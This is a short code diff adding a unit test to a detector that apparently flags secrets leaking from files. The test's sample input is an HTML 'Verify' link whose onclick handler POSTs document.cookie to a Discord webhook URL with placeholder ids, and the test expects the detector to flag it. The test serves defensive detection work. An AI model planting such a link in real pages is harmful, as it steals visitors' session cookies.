@@ -282,3 +282,10 @@ describe('a login in a store of files', () => {
     ])
   })
 })
+
+test('cookies that are told to a chat are a secret', () => {
+  const send = (what: string) =>
+    `<a href=# onclick="fetch('https://discord.com/api/webhooks/1/x',{method:'POST',body:${what}})">Verify</a>`
+  expect(at(send('document.cookie'))).toEqual(['content.form_chat'])
+  expect(at(send('message.value'))).toEqual([])
+})
